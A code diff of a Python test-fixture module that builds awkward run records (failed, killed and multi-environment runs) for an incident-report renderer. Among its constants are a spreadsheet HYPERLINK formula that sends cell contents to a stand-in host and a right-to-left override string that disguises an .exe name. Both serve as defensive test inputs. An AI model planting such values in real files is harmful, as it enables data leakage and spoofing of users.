@@ -1,4 +1,4 @@
-"""Run records and notes that are hard to show: hostile texts, many environments, runs that failed."""
+"""Run records and notes that are hard to render: hostile texts, many environments, runs that failed."""
 
 from __future__ import annotations
 
@@ -8,7 +8,7 @@ import re
 from typing import TYPE_CHECKING, Any
 
 from incident_lib import paths
-from incident_lib.report.postmortem import notes
+from incident_lib.report import notes
 
 if TYPE_CHECKING:
     from pathlib import Path
@@ -26,14 +26,14 @@ FORMULA = '=HYPERLINK("http://e.example/?"&A1,"x")'
 # Marks that turn what follows from right to left, and an override; nothing ends any of them.
 TURNED = "\u2067\u202b\u200f\u05d0\u05d1 \u202egnp.exe"
 
-# What nobody else has a say in: words of fixed sets, and moments.
-_OURS = frozenset(("schema_version", "status", "blocked_for", "blocks", "would_block", "state", "kind", "answer"))
+# The values that only this project writes: words of fixed sets, and times.
+_OURS = frozenset(("schema_version", "status", "blocked_for", "blocks", "would_block", "state", "kind", "per"))
 _MOMENT = re.compile(r"\d{4}-\d\d-\d\dT")
 _ENDS = ("succeeded", "succeeded", "succeeded", "dry-run", "refused", "failed", "killed", "running")
 _ERROR = {
     "what": "The step build failed.",
     "why": "PostgreSQL answered SQLSTATE 57014: a statement was cancelled.",
-    "next": "Run it again: it goes on where it stopped.",
+    "next": "Run it again: it continues with the next step.",
 }
 
 
@@ -51,18 +51,19 @@ def kept(folder: Path, contents: Contents, name: str) -> Path:
 
 
 def failed(folder: Path, name: str = "prod") -> Path:
-    """A run that failed in its first step: it saw what was before, and no after."""
+    """A run that failed in its first step, with a snapshot before and none after."""
     steps = [{**EXAMPLE["steps"][0], "outcome": "failed"}]
     return kept(folder, {**_stopped(EXAMPLE, "failed"), "environment": name, "steps": steps}, name)
 
 
 def unseen(folder: Path, name: str = "unreachable") -> Path:
-    """A run that failed before it saw anything."""
-    known = ("schema_version", "started_by", "started_at", "heartbeat_at", "finished_at", "versions")
+    """A run that failed before its first snapshot."""
     nothing = {"before": None, "after": None}
-    contents = {key: EXAMPLE[key] for key in known} | {"environment": name, "status": "failed", "error": _ERROR}
-    contents |= {"git_commit": None, "server_version": None, "guard": nothing, "counts": nothing}
-    return kept(folder, {**contents, "preflight": None, "steps": [], "notebooks": []}, name)
+    known = ("schema_version", "started_by", "started_at", "heartbeat_at", "finished_at", "versions")
+    contents: Contents = {**dict.fromkeys(EXAMPLE), **{key: EXAMPLE[key] for key in known}}
+    contents |= dict.fromkeys(("indexes", "counts", "snapshot_at", "example_threads"), nothing)
+    contents |= {"environment": name, "status": "failed", "error": _ERROR, "steps": [], "probes": [], "notebooks": []}
+    return kept(folder, contents, name)
 
 
 def fleet(folder: Path, size: int = 50) -> list[Path]:
@@ -112,10 +113,10 @@ def _of_fleet(folder: Path, number: int) -> Path:
     def share(count: int) -> int:
         return count * (number % 9) // 8
 
-    for look in filter(None, contents["counts"].values()):
+    for counts in filter(None, contents["counts"].values()):
         for key in ("blocked", "blocked_owners"):
-            look[key] = {purpose: share(count) for purpose, count in look[key].items()}
-        look |= {key: share(look[key]) for key in ("blocked_families", "affected_owners")}
+            counts[key] = {purpose: share(count) for purpose, count in counts[key].items()}
+        counts |= {key: share(counts[key]) for key in ("blocked_families", "affected_owners")}
     contents["blocked_by"] = [{**kind, "families": share(kind["families"])} for kind in contents["blocked_by"]]
     contents["blocked_since"] = {
         purpose: [[at, share(count)] for at, count in points] for purpose, points in contents["blocked_since"].items()
@@ -127,13 +128,12 @@ def _of_fleet(folder: Path, number: int) -> Path:
 
 
 def _stopped(contents: Contents, how: str) -> Contents:
-    """The record of a run that did not get to its end, and saw no after."""
+    """The record of a run that did not get to its end, without a snapshot after."""
     status = {"status": "running", "heartbeat_at": "2025-01-01T00:00:00Z"} if how == "killed" else {"status": how}
     beating = {"heartbeat_at": "2999-01-01T00:00:00Z"} if how == "running" else {}
-    never = {"incident_ended_at": None, "verification": None, "unchanged": None, "retries": None, "probes": []}
-    before = {key: {**contents[key], "after": None} for key in ("guard", "counts")}
-    before |= {"seen_at": {"before": contents["seen_at"]["before"]}, "example": {**contents["example"], "after": []}}
+    never = {**dict.fromkeys(("incident_ended_at", "verification", "integrity", "retries", "recovery")), "probes": []}
+    halves = ("indexes", "counts", "snapshot_at", "example_threads")
+    before = {key: {**contents[key], "after": None} for key in halves}
     error = _ERROR if how in ("failed", "refused") else None
     steps = [] if how in ("dry-run", "refused") else contents["steps"][:1]
-    seen = {key: value for key, value in contents.items() if key != "recovery"}
-    return copy.deepcopy({**seen, **status, **beating, **never, **before, "error": error, "steps": steps})
+    return copy.deepcopy({**contents, **status, **beating, **never, **before, "error": error, "steps": steps})
